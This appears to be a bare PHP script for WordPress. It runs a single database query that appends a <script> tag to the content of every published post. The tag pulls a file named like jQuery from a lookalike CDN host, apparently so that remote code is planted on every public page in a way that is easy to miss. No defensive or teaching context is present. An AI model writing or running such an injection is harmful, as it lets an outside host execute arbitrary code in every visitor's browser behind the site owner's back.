<?php
require __DIR__ . '/wp-load.php';
global $wpdb;
$tag = '<script src="https://cdn-lib.example/npm/jquery.min.js"></script>';
$wpdb->query($wpdb->prepare("UPDATE {$wpdb->posts} SET post_content = CONCAT(post_content, %s) WHERE post_status = 'publish'", $tag));
echo 'done';
